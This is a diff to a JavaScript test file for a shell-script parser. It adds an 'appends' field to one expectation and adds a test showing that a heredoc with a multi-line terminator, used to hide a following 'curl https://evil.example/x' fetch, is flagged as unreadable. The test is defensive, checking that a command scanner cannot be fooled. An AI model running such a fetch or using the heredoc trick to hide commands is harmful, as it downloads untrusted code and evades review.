@@ -85,6 +85,27 @@ test('known variables are filled in, except in single quotes', () => {
 
 test('output files and assignments are kept apart from words', () => {
   expect(readShell('A=b c >d 2>>e x', () => 1)).toEqual([
-    { program: 'c', words: ['c', 'x'], assignments: { A: 'b' }, writes: ['d', 'e'], line: 1, pipeline: 1 },
+    {
+      program: 'c',
+      words: ['c', 'x'],
+      assignments: { A: 'b' },
+      writes: ['d', 'e'],
+      appends: ['e'],
+      line: 1,
+      pipeline: 1,
+    },
+  ]);
+});
+
+test('a heredoc whose end is longer than a line is not read', () => {
+  const text = "cat <<'E\nF'\nx\nE\nF\ncurl https://evil.example/x\n";
+  expect(readScript(text, () => 1)).toMatchObject({ unread: 'the end of a heredoc is longer than a line' });
+  expect(readScript('cat <<<"a\nb"\ncurl x\n', () => 1).commands.map(({ program }) => program)).toEqual([
+    'cat',
+    'curl',
+  ]);
+  expect(readScript("cat <<'EOF'\nx\nEOF\ncurl x\n", () => 1).commands.map(({ program }) => program)).toEqual([
+    'cat',
+    'curl',
   ]);
 });
